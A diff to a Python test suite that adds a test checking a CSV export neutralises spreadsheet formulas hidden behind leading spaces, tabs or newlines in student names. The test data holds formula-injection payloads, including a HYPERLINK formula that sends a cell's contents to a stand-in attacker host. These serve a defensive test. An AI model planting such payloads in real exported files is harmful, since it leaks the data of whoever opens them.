@@ -330,6 +330,16 @@ def test_dates_without_a_custom_range_are_not_a_filter(as_creator, rated):
     assert "Clear filters" not in page
 
 
+@pytest.mark.parametrize("name", [" =1+1", "\t=1+1", "  \t@SUM(A1)", "\n-2+3", " +cmd"], ids=repr)
+def test_the_csv_neutralises_a_formula_after_spaces_or_tabs(as_creator, make_session, student, name):
+    """Issue 11.6: spreadsheets skip leading spaces and tabs, so " =1+1" is a formula too."""
+    student.name = name
+    student.save()
+    make_session(start=NOW - timedelta(days=1))
+    body = b"".join(as_creator.get(f"{URL}/export.csv").streaming_content).decode()
+    assert list(csv.reader(io.StringIO(body)))[1][5] == "'" + name
+
+
 def test_the_csv_never_starts_a_formula(as_creator, make_session, student):
     student.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     student.save()
